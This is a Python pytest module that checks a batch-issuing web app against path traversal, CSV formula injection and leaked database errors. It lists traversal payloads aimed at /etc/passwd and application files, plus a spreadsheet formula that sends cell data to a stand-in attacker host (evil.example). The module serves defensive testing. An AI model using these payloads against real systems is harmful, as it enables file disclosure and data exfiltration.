"""What attackers try with addresses and files: it comes to nothing, and the log tells of it."""

import csv
import io
import logging
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from batch_issuer.accounts import Role
from tests.pipeline.world import BADGES, customers
from tests.web.site import Browser, Site

WAYS_OUT = (
    "/batches/%2e%2e/%2e%2e/etc/passwd",
    "/batches/..%2f..%2fetc/files/passwd",
    "/batches/{batch}/files/..%2fledger.db",
    "/batches/{batch}/files/%2e%2e%2fledger.db",
    "/batches/{batch}/files/..%5cledger.db",
    "/batches/{batch}/files/.reports.lock",
    "/batches/{batch}/files/%2fetc%2fpasswd",
    "/batches/{batch}/files/summary.json%00.csv",
    "/uploads/..%2f..%2fetc/rejects.csv",
    "/uploads/%2e%2e/columns",
    "/static/..%2fapp.py",
    "/static/%2e%2e/%2e%2e/settings.py",
)
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


async def issue(maker: Browser, site: Site, text: str) -> str:
    """Bring cells, send what is valid of them, and return the batch."""
    brought = await maker.post("/uploads/pasted", {"cells": text})
    where = brought.to.removesuffix("/columns")
    upload = where.rpartition("/")[2]
    found = await site.console.uploads.find(upload, user="mara")
    assert found is not None
    await maker.get(brought.to)
    await maker.post(f"{where}/check")
    await site.console.uploads.wait(found)
    await maker.post(f"{where}/invalid", {"on_invalid": "skip", "max_invalid": "90%"})
    await maker.post(f"{where}/check")
    await site.console.uploads.wait(found)
    started = await maker.post(f"{where}/issue", {"customers": "2", "name": FORMULA})
    await site.console.runs.wait(started.to.removeprefix("/runs/"))
    (batch,) = [run.batch for run in [await site.console.runs.find(started.to.removeprefix("/runs/"))] if run]
    return batch


async def test_no_address_leads_out_of_the_folders(site: Site, caplog: pytest.LogCaptureFixture) -> None:
    maker = await site.browser(Role.MAKER, user="mara")
    await maker.get("/uploads")
    batch = await issue(maker, site, customers(2))
    with caplog.at_level(logging.INFO, logger="batch_issuer"):
        for way in WAYS_OUT:
            page = await maker.get(way.format(batch=batch))
            assert page.status == 404, way
            assert "root:" not in page.text
    told = [record for record in caplog.records if record.message == "request refused"]
    assert len(told) == len(WAYS_OUT)
    assert {record.__dict__["user"] for record in told} >= {"mara"}
    assert not any("passwd" in str(record.__dict__) for record in told)


async def test_no_cell_comes_back_as_a_formula(site: Site) -> None:
    maker = await site.browser(Role.MAKER, user="mara")
    await maker.get("/uploads")
    rows = f'{FORMULA!r},,+1\n"{FORMULA.replace(chr(34), 2 * chr(34))}",{BADGES[0]},@SUM(A1)\n'
    text = f"customer_id,badge_meta_id,=note\n{rows}" + "".join(
        f"70000000{n},{BADGES[0]},-\n" for n in (1, 2)
    )
    batch = await issue(maker, site, text)
    for name in ("reconciliation.csv", "rejects.csv", "requests.csv"):
        page = await maker.get(f"/batches/{batch}/files/{name}")
        assert page.headers["Content-Disposition"].startswith("attachment")
        cells = [cell for line in csv.reader(io.StringIO(page.text.lstrip("\ufeff"))) for cell in line]
        assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}], name
    shown = await maker.get(f"/batches/{batch}")
    assert FORMULA in shown.words


async def test_strangers_are_not_told_where_the_ledger_lies(
    site: Site, caplog: pytest.LogCaptureFixture
) -> None:
    stranger = await site.browser()
    ledger = Path(site.console.settings.ledger_url.removeprefix("sqlite:///"))
    with closing(sqlite3.connect(ledger)) as connection:
        connection.execute("DROP TABLE users")
        connection.commit()
    page = await stranger.get("/sign-in")
    assert page.status == 503
    assert "tell an admin" in page.words
    assert "no such table" not in page.text
    assert [record for record in caplog.records if "no such table" in str(record.__dict__.get("reason"))]
